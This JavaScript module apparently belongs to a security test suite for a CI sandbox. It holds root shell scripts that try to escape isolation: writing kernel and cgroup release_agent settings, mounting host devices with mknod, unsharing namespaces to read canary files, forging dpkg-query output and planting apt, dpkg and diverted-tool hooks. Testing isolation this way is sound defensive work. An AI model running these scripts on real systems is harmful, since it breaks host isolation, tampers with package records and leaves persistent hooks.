import { readFileSync } from "node:fs";

import { proved } from "../package.js";
import { setAttribute } from "../scripts.js";

/** Settings of the machine that no session may change. */
const machine = [
  "/proc/sys/kernel/core_pattern",
  "/proc/sys/kernel/hostname",
  "/proc/sys/kernel/modprobe",
  "/proc/sys/vm/overcommit_memory",
  "/proc/sys/kernel/randomize_va_space",
  "/proc/self/oom_score_adj",
  "/sys/kernel/mm/transparent_hugepage/enabled",
];
const valueOf = (file) => {
  try {
    return readFileSync(file, "utf8");
  } catch {
    return "";
  }
};
const before = machine.map(valueOf);

const machineChanged = () => {
  const index = machine.findIndex((file, at) => valueOf(file) !== before[at]);
  return index < 0 ? undefined : `${machine[index]} was changed`;
};

const everywhere = (attack) =>
  [
    ["image", "image"],
    ["root-test", "test"],
  ].map(([at, boundary]) => ({
    row: "own",
    boundary,
    quick: true,
    before: "held",
    ...attack,
    id: `${attack.id}-${at}`,
    piece: { at, script: attack.script },
  }));

/** @type {import("../attack.js").Attack[]} */
export const attacks = [
  ...everywhere({
    id: "own-machine-settings",
    tries: "root inside writes to /proc/sys, /sys and cgroups",
    script: () => `for f in ${machine.join(" ")} /proc/sysrq-trigger; do
  echo attacked 2>/dev/null >"$f" && echo "wrote $f"
done
mount -o remount,rw /sys; mount -o remount,rw /proc; mount -t cgroup2 none /mnt && echo mounted a cgroup; umount /mnt
for f in /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/release_agent; do echo /attack 2>/dev/null >"$f" && echo "wrote $f"; done; true`,
    look: machineChanged,
  }),
  ...everywhere({
    id: "own-devices",
    tries: "root inside makes and mounts the machine's devices",
    script: ({
      id,
    }) => `for d in 'b 254 0 vda' 'b 8 0 sda' 'c 1 1 mem' 'c 10 200 tun'; do
  set -- $d; mknod "/root/$4" "$1" "$2" "$3" && head -c 16 "/root/$4" >/dev/null && echo "DEVICE-${id} $4"
done
for d in /dev/vda /dev/vda1 /dev/sda /dev/sda1; do mount "$d" /mnt && echo "DEVICE-${id} $d"; done; true`,
    look: ({ id }, { logs }) =>
      logs.includes(`DEVICE-${id}`) ? "a device could be used" : undefined,
  }),
  ...everywhere({
    id: "own-nested-namespace",
    tries:
      "root inside opens namespaces of its own, takes mounts away and looks beneath them",
    script: ({
      id,
      place,
    }) => `looks='for m in $(cut -d " " -f 5 /proc/self/mountinfo | sort -r); do umount -l "$m" 2>/dev/null; done
for at in / /run /run/host /tmp /mnt ${place.root} ${place.home}; do cat "$at/precious.txt" "$at/${id}/precious.txt" "$at/home/${id}/precious.txt" "$at${place.home}/${id}/precious.txt"; done 2>/dev/null'
unshare --mount --propagation slave sh -c "$looks"
unshare --user --map-root-user --mount --pid --fork sh -c "mount -t proc proc /proc; $looks"
unshare --user --map-auto --map-root-user --mount sh -c "$looks"
ls ${place.home} 2>/dev/null; true`,
  }),
  ...everywhere({
    id: "own-shared-memory",
    tries: "root inside finds the host's shared memory, queues and names",
    script: ({
      id,
      place,
    }) => `perl -e 'defined(my $m = shmget(${place.memory}, 0, 0)) or exit; shmread($m, my $text, 0, 64); print "MEMORY-${id} $text\\n"'
ls /dev/shm /dev/mqueue 2>/dev/null | grep ubuntu-ci-attack && echo "MEMORY-${id}"; true`,
    look: ({ id }, { logs }) =>
      logs.includes(`MEMORY-${id}`)
        ? "memory of the host was found"
        : undefined,
  }),
  {
    id: "own-overlay-attributes",
    row: "own",
    boundary: "image",
    before: "held",
    tries:
      "attributes of overlayfs on the image's files lead the next mount to the owner's files",
    ticket: (here) => {
      const at = here.canary.folder;
      return [
        {
          source: here.name,
          binaries: [
            {
              name: here.name,
              postinst: proved(
                here.id,
                `mkdir -p /var/lead /var/hide; : >/var/copy
${["user", "trusted"]
  .flatMap((space) => [
    setAttribute("/var/lead", `${space}.overlay.redirect`, at),
    setAttribute("/var/lead", `${space}.overlay.opaque`, "x"),
    setAttribute(
      "/var/copy",
      `${space}.overlay.redirect`,
      `${at}/precious.txt`,
    ),
    setAttribute("/var/copy", `${space}.overlay.metacopy`, ""),
  ])
  .join("\n")}`,
              ),
            },
          ],
          tests: [
            {
              name: "look",
              root: true,
              script:
                "ls -lR /var/lead /var/hide; cat /var/lead/* /var/copy\ntrue\n",
            },
          ],
        },
      ];
    },
  },
  {
    id: "own-forged-manifest",
    row: "own",
    boundary: "image",
    before: "succeeds",
    tries: "the image's own dpkg-query says what the image holds",
    land: { until: "build-image" },
    ticket: (here) => [
      {
        source: here.name,
        binaries: [
          {
            name: here.name,
            postinst: proved(
              here.id,
              `mv /usr/bin/dpkg-query /usr/bin/dpkg-query.real
cat >/usr/bin/dpkg-query <<'FORGED'
#!/bin/sh
/usr/bin/dpkg-query.real "$@" | sed 's/^\\(.*\\)base-files\\b/\\1forged-name/'
FORGED
chmod 755 /usr/bin/dpkg-query`,
            ),
          },
        ],
      },
    ],
    look: (_here, { results }) =>
      results.includes("forged-name")
        ? "the manifest says what the image's own tool says"
        : undefined,
  },
  {
    id: "own-hooks",
    row: "own",
    boundary: "image",
    before: "held",
    tries:
      "hooks of apt, dpkg and the linker in the image run nowhere but inside",
    ticket: (here) => [
      {
        source: here.name,
        binaries: [
          {
            name: here.name,
            postinst: proved(
              here.id,
              `hook="dd if=${here.canary.folder}/precious.txt of=/var/seen 2>/dev/null; touch ${here.canary.folder}/hooked; true"
for when in DPkg::Pre-Invoke DPkg::Post-Invoke APT::Update::Pre-Invoke APT::Update::Post-Invoke; do
  echo "$when { \\"$hook\\"; };"
done >/etc/apt/apt.conf.d/99attack
mkdir -p /etc/dpkg/dpkg.cfg.d; echo "post-invoke=$hook" >/etc/dpkg/dpkg.cfg.d/attack
for tool in tar cat find cp; do
  real=$(command -v $tool); dpkg-divert --local --rename --add "$real"
  printf '#!/bin/sh\\n%s\\nexec %s.distrib "$@"\\n' "$hook" "$real" >"$real"; chmod 755 "$real"
done`,
            ),
          },
        ],
        tests: [
          { name: "look", root: true, script: "cat.distrib /var/seen\ntrue\n" },
        ],
      },
    ],
  },
];
